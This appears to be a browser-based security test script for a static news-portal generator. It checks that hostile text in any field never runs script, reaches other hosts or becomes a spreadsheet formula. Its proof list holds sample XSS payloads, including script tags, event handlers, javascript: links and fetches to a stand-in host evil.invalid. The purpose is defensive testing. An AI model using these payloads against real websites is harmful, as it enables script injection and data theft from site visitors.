"""injection.py [PUBLIC_DIR] [--soak SEEDS]: no text that a person writes comes alive in a browser.

Portals are made up in which every field carries every payload of hostile/payloads.json, and the same of harmless
texts. Every page, feed and drawing is opened in Chromium, with the policy and without: nothing runs, nothing is
asked for elsewhere, and page for page both portals have the same elements and attributes. Searches and filters are
asked for each payload. Feeds, data and tables are read by other programs and say the payload as text.
The output that is given for all checks is not looked at. --soak: all payloads, not four of ten, and that many corpora of
payloads mutated from these, each from its own seed.
"""
import argparse
import collections
import concurrent.futures
import contextlib
import csv
import html
import io
import json
import random
import re
import subprocess
import sys
import tempfile
import time
import xml.etree.ElementTree as etree
from pathlib import Path
from urllib.parse import quote, unquote

import hostile
from hostile import said
from hostile.browser import Check
from hostile.servers import Elsewhere, serving
from snippets import answers, free_port


def addresses(public, suffixes=(".html", ".xml", ".svg")):
    """Of all files that browsers draw."""
    found = []
    for file in sorted(public.rglob("*")):
        if file.suffix in suffixes:
            found.append("/" + quote(str(file.relative_to(public)).removesuffix("index.html"), safe="/~"))
    return found


def canonical(address):
    """The same for both twins, where a name makes the address."""
    address = re.sub(r"(?<=/)(?:[^/]*-)?((?:the|tg|nv|loai|noi)\d{3})(?:-[^/]*)?(?=/)", r"\1", address)
    # That of the settings has one tag.
    return re.sub(r"^/the/(?:[^/]*-)?the/", "/the/the/", address)


# MARK: What is looked for

# What texts go without saying what is wrong with them, by the beginning of the field: all others take any text but
# what XML cannot say.
FORMS = {
    ".file": {"path.unsafe", "fs.name", "file system"}, ".url": {"path.unsafe"}, "item.slug": {"path.unsafe"},
    "item.aliases": {"path.unsafe"}, ".language": {"meta.value"}, "item.translation-of": {"path.unsafe", "ref.unknown"},
    "base-url": {"settings.baseurl"}, "time-zone": {"settings.timezone"}, "security.contact": {"settings.security"},
    "security.policy": {"path.unsafe"}, "agency.name": {"ref.ambiguous"},
    "markdown.": {"file.missing", "link.broken", "markdown.note"}, "item.body.image": {"file.missing"},
}
NO_TEXT = {"control.char", "control.nonchar"}


def unexpected(refused):
    """Fields that do not take what they should."""
    for (field, number), code in refused.items():
        forms = set().union(*(codes for part, codes in FORMS.items() if part in field))
        if code not in NO_TEXT | forms:
            yield f"{field} refuses payload {number}: {code}"


def shown(portal):
    """What each page has to say, by address."""
    wanted = collections.defaultdict(list)
    for (field, number), text in portal.kept.items():
        item = f"/tin/2026/11/{19 + number % 2}/{portal.strict('item.slug', number, f'tin-{number:03}')}/"
        kind = field.split(".")[0]
        places = {
            "item": [item, f"/cu/{number:03}/"] if field == "item.title" else [item],
            "agency": [f"/co-quan/cq-{number:03}/"], "document": [f"/van-ban/vb-{number:03}/"],
            "topic": [f"/dong-su-kien/dong-{number:03}/"], "page": [f"/trang-{number:03}/"],
            "measure": [item, f"/thong-ke/chi-tieu/ct-{number:03}/"],
        }.get(kind, [])
        # Names of files are written in addresses; what a figure is called, and names still to come, nobody sees.
        if field.endswith(".file") or ".markdown." in field or field in (
                "item.figures.id", "item.extra.key", "agency.names", "item.body.image"):
            continue
        if field == "agency.name":
            places.append(item)
        # What a payload opens must not swallow what comes after it.
        if field == "markdown.opening":
            ends = [f"het{it:02}" for it in range(len(hostile.PLACES))] + ["het99"]
            wanted[f"/tin/2026/11/18/tho-{number:03}/"] += ends
        if field == "agency.short":
            places = []
        for place in places:
            wanted[place].append(said(text))
    return wanted


def programs(check, portal):
    """Feeds, maps, data and tables, read as programs do."""
    public, kept, count = portal.root / "Public", portal.kept, len(portal.payloads)
    titles = {said(kept["item.title", number]) for number in range(count)}
    for file in sorted(public.rglob("*.json")):
        try:
            json.loads(file.read_text())
        except ValueError as error:
            check.fault(f"{file}: {error}")
    for number in range(count):
        root = etree.parse(public / f"co-quan/cq-{number:03}/feed.xml").getroot()
        for field, path in (("item.title", "channel/item/title"), ("item.summary", "channel/item/description")):
            text = root.findtext(path) or ""
            # A description is HTML, and a title is not.
            text = said(html.unescape(text) if field == "item.summary" else text)
            if text != said(kept[field, number]):
                check.fault(f"feed of agency {number}: {text!r} for {field}")
        if said(kept["agency.name", number]) not in said(root.findtext("channel/title")):
            check.fault(f"feed of agency {number}: called {root.findtext('channel/title')!r}")
    atom = {said(it.text) for it in etree.parse(public / "atom.xml").iter("{http://www.w3.org/2005/Atom}title")}
    feed = {said(it["title"]) for it in json.loads((public / "feed.json").read_text())["items"]}
    name = "{http://www.google.com/schemas/sitemap-news/0.9}title"
    news = {said(it.text) for file in public.glob("sitemap-news*.xml") for it in etree.parse(file).iter(name)}
    found = {said(json.loads(it.read_text())["title"]) for it in public.glob("tim-kiem/2026-11/*.json")}
    for what, texts, most in (
            ("atom.xml", atom, 20), ("feed.json", feed, 20), ("the news", news, count), ("the search", found, count)):
        if len(texts & titles) < min(most, len(titles)):
            check.fault(f"{what} says {len(texts & titles)} of {len(titles)} titles")
    tables(check, portal)


def tables(check, portal):
    """Every cell is text or a number, and names are whole."""
    cells = set()
    for file in sorted((portal.root / "Public/thong-ke").rglob("*.csv")):
        for row in csv.reader(io.StringIO(file.read_bytes().decode(), newline=""), strict=True):
            if len(row) != 14:
                check.fault(f"{file}: {len(row)} cells: {row}")
            for cell in row:
                if re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell):
                    check.fault(f"{file}: a formula: {cell!r}")
            cells |= {said(it.removeprefix("'")) for it in row}
    for number in range(len(portal.payloads)):
        for field in ("measure.name", "measure.unit"):
            text = said(portal.kept[field, number])
            if text not in cells and text.removeprefix("'") not in cells:
                check.fault(f"no table says {field} {number}: {text!r}")


def drawn(file):
    """The elements of an XML file in their order, with the names of their attributes."""
    def parts(element):
        if not isinstance(element.tag, str):
            return "a comment or an instruction"
        return element.tag, sorted(element.attrib), [parts(it) for it in element]
    builder = etree.TreeBuilder(insert_comments=True, insert_pis=True)
    return parts(etree.parse(file, etree.XMLParser(target=builder)).getroot())


def feeds(check, one, two):
    """Feeds and maps are XML, and of the same elements in both twins."""
    others = {canonical(it): it for it in addresses(two.root / "Public", [".xml"])}
    for address in addresses(one.root / "Public", [".xml"]):
        try:
            other = others.get(canonical(address), "")
            both = [drawn(it.root / "Public" / unquote(path)[1:]) for it, path in ((one, address), (two, other))]
        except (etree.ParseError, OSError) as error:
            check.fault(f"{one.root.name}: {address}: {error}")
            continue
        if both[0] != both[1] or "an instruction" in str(both[0]):
            check.fault(f"{one.root.name}: {address}: made otherwise than its twin")


def contents(check, payloads, name, is_whole):
    """The portal with an item for each payload, and its twin. With the policy all pages are opened, or those of
    items and texts: the rest can only do less with it than without."""
    begin = time.monotonic()
    one = hostile.accepted(lambda refused: hostile.content(check.folder / name, payloads, refused))
    two = hostile.content(check.folder / f"{name}-twin", payloads, dict(one.refused), False)
    errors = two.build()
    if errors:
        raise SystemExit(f"the twin is refused: {errors[:3]}")
    fields = {field for field, _ in one.kept} | {field for field, _ in one.refused}
    print(f"{name}: {len(payloads)} payloads in {len(fields)} fields, {len(one.refused)} refused; "
          f"built in {time.monotonic() - begin:.0f} s", flush=True)
    print("  refused:", ", ".join(f"{code} {count}" for code, count in collections.Counter(one.refused.values()).items()))
    for fault in unexpected(one.refused):
        check.fault(fault)
    programs(check, one)
    feeds(check, one, two)
    raw = {it for it in addresses(one.root / "Public") if "/tho-" in it or it.startswith("/trang-")}
    wanted = shown(one)
    # Of feeds those of all and of agencies: the others have the same items.
    pages = [{"address": it, "isRaw": it in raw, "wanted": wanted.pop(it, [])} for it in addresses(one.root / "Public")
             if is_whole or not it.endswith(".xml") or re.match("/(co-quan/cq-|[^/]*$)", it)]
    for address in wanted:
        check.fault(f"{name}: there is no {address}")
    check.site(name)
    bare = check.visit(name, pages)
    searches(check, one, name)
    check.site(name, True)
    kept = [{**it, "wanted": []} for it in pages if is_whole or it["isRaw"] or re.search(r"/tin-\d+/|^/[a-z-]*/?$", it["address"])]
    check.visit(name, kept)
    twins = [{"address": it, "isRaw": it in raw} for it in addresses(two.root / "Public", [".html"])]
    check.site(f"{name}-twin")
    twin = check.visit(f"{name}-twin", twins, way="parsed")
    by_place = {canonical(address): it for address, it in twin.items()}
    other = {canonical(it) for it in bare if it[-4:] not in (".xml", ".svg")} ^ set(by_place)
    if other:
        check.fault(f"{name}: other addresses than its twin: {sorted(other)[:10]}")
    preview(check, one)
    check.compare(name, f"{name}-twin", bare, {it: by_place.get(canonical(it)) for it in bare}, raw)


def searches(check, portal, name):
    """The search and the filter, asked for each payload; and what is found by a word of each item."""
    pages = [{"address": f"/tim-kiem/?q={quote(it, safe='')}", "isEmpty": not re.search(r"\w", it)} for it in portal.payloads]
    pages += [{"address": f"/tim-kiem/?q=a{number:03}z"} for number in range(len(portal.payloads))]
    check.visit(name, pages, "searched")
    for number, page in enumerate(pages[len(portal.payloads):]):
        title = said(portal.kept["item.title", number])
        if [said(it) for it in page["rows"] or []] != [title]:
            check.fault(f"{name}: {page['address']} shows {page['rows']}, not {title!r}")
    check.visit(name, [{"address": f"/van-ban/?q={quote(it, safe='')}"} for it in portal.payloads[::5]])
    check.visit(name, [{"address": f"/tim-kiem/?{it}"} for it in ("document=vb-001", "agency=cq-001", "section=muc")], "searched")
    check.visit(name, [{"address": lost(it)} for it in portal.payloads[::5]])


def lost(payload):
    """An address that leads nowhere."""
    return f"/khong-co/{quote(payload.replace('/', ''), safe='')}"


def all_settings(check, payloads, name, is_whole):
    """A portal for each payload in all settings and words; of its pages those of every kind, or all."""
    begin = time.monotonic()

    def made(number):
        root = check.folder / f"{name}-{number:03}"
        return hostile.accepted(lambda refused: hostile.settings(root, payloads, refused, True, number))

    with concurrent.futures.ThreadPoolExecutor(2) as workers:
        portals = list(workers.map(made, range(len(payloads))))
    two = hostile.settings(check.folder / f"{name}-twin", payloads, dict(portals[0].refused), False)
    two.build()
    refused = sum(len(it.refused) for it in portals)
    fields = {field for it in portals for field, _ in it.kept}
    print(f"{name}: {len(payloads)} payloads in {len(fields)} fields, {refused} refused; "
          f"built in {time.monotonic() - begin:.0f} s", flush=True)
    check.site(f"{name}-twin")
    every = [{"address": it} for it in addresses(two.root / "Public", [".html"]) if not it.startswith("/the/")]
    twin = check.visit(f"{name}-twin", every, way="parsed")
    chosen = [it for it in every if is_whole or it["address"] in KINDS]
    for has_policy in (False, True):
        for number, portal in enumerate(portals):
            check.site(f"{name}-{number:03}", has_policy)
            # The first page has all that settings say.
            found = check.visit(f"{name}-{number:03}", chosen if is_whole or not has_policy else [{"address": "/"}])
            if not has_policy:
                check.compare(f"{name}-{number:03}", f"{name}-twin", found, twin, set())
    for portal in portals:
        feeds(check, portal, two)
        for fault in unexpected(portal.refused):
            check.fault(fault)


# One of every kind that settings and words show on.
KINDS = {
    "/", "/tin/2026/11/19/tin-19/", "/van-ban/28-nq-tw-2018/", "/chuyen-muc/muc/", "/thong-ke/2026/", "/tim-kiem/", "/so-do/",
}


# Pages that have what is looked for.
BAD = [
    "<script>hit()</script>", "<script src=//evil.invalid/x.js></script>", "<img src=x onerror=hit()>",
    "<svg onload=hit()></svg>", "<p onclick=hit()>x</p>", "<a href=javascript:hit()>x</a>",
    "<a href='java\nscript:hit()'>x</a>", "<a href=data:text/html,x>x</a>", "<iframe></iframe>", "<object></object>",
    "<embed>", "<base href=/x/>", "<p style=x>x</p>", "<style>x{}</style>", "<!-- x -->",
    "<img src=//evil.invalid/x.png>", "<img srcset='/x.png 1x, //evil.invalid/x.png 2x'>", "<p id=x></p><p id=x></p>",
    "<math><mi>x</mi></math>", "<meta http-equiv=refresh content='9;url=javascript:hit()'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<form action=//evil.invalid/></form>",
    "<script type=application/ld+json>{]</script>", "<p x\"y>x</p>", "<script>window.__hit = 1</script>",
    "<script>alert(1)</script>", "<div class=prose><p><b>x</b></p></div>",
    "<div class=prose><a href=/ onx>x</a></div>", "<script>fetch('http://evil.invalid/')</script>",
    "<script>location = '/x.html'</script>",
]
BAD_XML = [
    "<x><script xmlns='http://www.w3.org/1999/xhtml'>parent.hit()</script></x>", "<x><!-- x --></x>", "<x>",
    "<x><![CDATA[x]]></x>",
]


def proof(check):
    """Whatever may come alive is seen where it does."""
    public = check.folder / "bad/Public"
    public.mkdir(parents=True)
    pages = [f"<!doctype html><html lang=vi><title>x</title><body>{it}" for it in ["<p>x</p>"] + BAD]
    for number, text in enumerate(pages + BAD_XML):
        (public / f"{number}.{'html' if number < len(pages) else 'xml'}").write_text(text)
    (public / "404.html").write_text("x")
    check.site("bad")
    with contextlib.redirect_stdout(io.StringIO()):
        check.visit("bad", [{"address": it} for it in addresses(public) if it != "/404.html"])
    found, check.faults, check.outside = " ".join(check.faults), [], set()
    Elsewhere.asked.clear()
    for number, text in enumerate(pages + BAD_XML):
        if (f"/{number}." in found) != (number > 0):
            check.fault(f"this check does not see what is wrong with {text!r}" if number else "this check sees faults everywhere")
    check.opened = 0


def preview(check, portal):
    """The same shown by `portal serve`, as readers open it; and what it says of a file full of mistakes."""
    port = free_port()
    process = subprocess.Popen(
        [hostile.PORTAL, "serve", "-C", portal.root, "-p", str(port), "--clock", hostile.CLOCK, "--language", "en"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        base, deadline = f"http://127.0.0.1:{port}", time.monotonic() + 60
        while not answers(port):
            if process.poll() is not None or time.monotonic() > deadline:
                return check.fault("serve does not answer")
            time.sleep(0.05)
        chosen = ["/", "/feed.xml", "/atom.xml", "/sitemap.xml", "/sitemap-news.xml", "/tim-kiem/?q=%3Cscript%3E",
                  "/van-ban/?q=%22%3E"] + [lost(it) for it in portal.payloads[::9]]
        items = [it for it in addresses(portal.root / "Public", [".html"]) if re.search(r"/(tin|tho|trang)-\d+/$", it)]
        for address in chosen + items[::12]:
            check.driver.get(base + address)
            check.here(f"serve {address}")
        mistakes = hostile.Text()
        mistakes.add("---\ntitle: x\ndate: 2026-11-19")
        for number, payload in enumerate(portal.payloads):
            if ("item.extra.key", number) not in portal.refused:
                mistakes.add(f"{hostile.quoted(payload)}: x")
        mistakes.add("---\n")
        portal.write("Content/items/sai.md", mistakes)
        deadline = time.monotonic() + 30
        while not (shown := check.driver.execute_script("return document.querySelector('dialog')?.textContent")):
            if time.monotonic() > deadline:
                return check.fault("serve: mistakes are not shown")
            time.sleep(0.1)
        check.here("serve: mistakes")
        count = sum(said(it) in said(shown) for it in portal.payloads)
        if count < len(portal.payloads) / 2:
            check.fault(f"serve: mistakes quote {count} payloads")
        inner = check.driver.execute_script(
            "return [...new Set([...document.querySelectorAll('dialog *')].map(it => it.localName))].sort()")
        if inner != ["button", "div", "h2", "li", "ol", "p", "pre"]:
            check.fault(f"serve: mistakes are shown in {inner}")
    finally:
        process.terminate()
        process.wait()
        (portal.root / "Content/items/sai.md").unlink(missing_ok=True)
        check.has_policy = None


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("public", nargs="?")
    arguments.add_argument("--soak", type=int, default=0, metavar="SEEDS")
    soak = arguments.parse_args().soak
    corpus = hostile.corpus()
    payloads = [it for texts in corpus.values() for it in texts]
    if not soak:
        # Four of ten of each class, always the same.
        chance = random.Random(0)
        payloads = [it for texts in corpus.values() for it in chance.sample(texts, (len(texts) * 2 + 4) // 5)]
    with contextlib.ExitStack() as stack:
        folder = Path(tempfile.mkdtemp(prefix="portal-pages-"))
        # Some fifty thousand files: rm takes a tenth of Python's time.
        stack.callback(subprocess.run, ["rm", "-rf", folder], check=True)
        check = stack.enter_context(contextlib.closing(Check(folder, stack.enter_context(serving(folder)))))
        proof(check)
        contents(check, payloads, "content", soak > 0)
        all_settings(check, payloads, "settings", soak > 0)
        for seed in range(soak):
            contents(check, hostile.mutated(seed, 250), f"seed{seed}", True)
        # Pictures that a text takes from elsewhere were named by its page, each; of the browser itself are the others.
        for host, count in Elsewhere.asked.items():
            if host not in check.outside and not re.search(r"\.(google|googleapis|gstatic|gvt1)\.com$", host):
                check.fault(f"{count} times asked for {host}")
        print(f"{check.opened} pages opened, {len(check.faults)} faults")
        return 1 if check.faults else 0


if __name__ == "__main__":
    sys.exit(main())
